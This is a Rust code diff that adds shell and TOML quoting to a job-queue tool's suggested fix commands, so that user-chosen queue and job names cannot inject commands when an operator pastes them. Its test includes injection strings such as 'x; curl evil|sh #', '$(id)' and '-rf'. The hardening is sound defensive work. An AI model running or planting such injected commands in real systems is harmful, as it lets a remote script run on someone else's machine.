@@ -42,9 +42,9 @@ pub(crate) fn says_of_queue(queue: &str, jobs: u64) -> String {
 
 /// Says what to do about it.
 pub(crate) fn fix_of_queue(queue: &str) -> String {
-    let queue = harmless(queue);
+    let (key, queue) = (key(queue), word(queue));
     format!(
-        "start the node that has it, or add [queues.{queue}] with a handler of it, or `steadfast jobs cancel --all --state pending --queue {queue} --reason WHY`"
+        "start the node that has it, or add [queues.{key}] with a handler of it, or `steadfast jobs cancel --all --state pending --queue {queue} --reason WHY`"
     )
 }
 
@@ -68,13 +68,65 @@ pub(crate) fn says(kind: &str, of_kind: &Unhandled) -> String {
 pub(crate) fn fix(kind: &str, of_kind: &Unhandled) -> String {
     let schedules = of_kind.schedules.iter();
     let delete: String = schedules
-        .map(|name| format!(", or `steadfast schedules delete {name} --reason WHY`"))
+        .map(|name| {
+            format!(
+                ", or `steadfast schedules delete {} --reason WHY`",
+                word(name)
+            )
+        })
         .collect();
     let cancel = match of_kind.jobs {
         0 => String::new(),
         _ => format!(
-            ", and `steadfast jobs cancel --all --state pending --kind {kind} --reason WHY` for those that wait"
+            ", and `steadfast jobs cancel --all --state pending --kind {} --reason WHY` for those that wait",
+            word(kind)
         ),
     };
-    format!("start the node that has it, or add [handlers.{kind}]{delete}{cancel}")
+    format!(
+        "start the node that has it, or add [handlers.{}]{delete}{cancel}",
+        key(kind)
+    )
+}
+
+/// A name as a word of a shell: whoever may enqueue chooses it, and somebody else pastes the line.
+fn word(name: &str) -> String {
+    match is_plain(name) {
+        true => name.to_owned(),
+        false => format!("'{}'", harmless(name).replace('\'', r"'\''")),
+    }
+}
+
+/// A name as a key of TOML.
+fn key(name: &str) -> String {
+    match is_plain(name) && !name.contains(['.', '/', ':']) {
+        true => name.to_owned(),
+        false => serde_json::Value::from(harmless(name)).to_string(),
+    }
+}
+
+fn is_plain(name: &str) -> bool {
+    let is_plain = |char: char| char.is_ascii_alphanumeric() || "-_./:".contains(char);
+    !name.is_empty() && !name.starts_with('-') && name.chars().all(is_plain)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_line_that_is_pasted_runs_no_name() {
+        let check = |name: &str, in_shell: &str, in_toml: &str| {
+            assert_eq!((word(name), key(name)), (in_shell.into(), in_toml.into()));
+        };
+
+        check("mail", "mail", "mail");
+        check("mail.de", "mail.de", r#""mail.de""#);
+        check(
+            "x; curl evil|sh #",
+            "'x; curl evil|sh #'",
+            r##""x; curl evil|sh #""##,
+        );
+        check("it's $(id)", r"'it'\''s $(id)'", r#""it's $(id)""#);
+        check("-rf", "'-rf'", r#""-rf""#);
+    }
 }
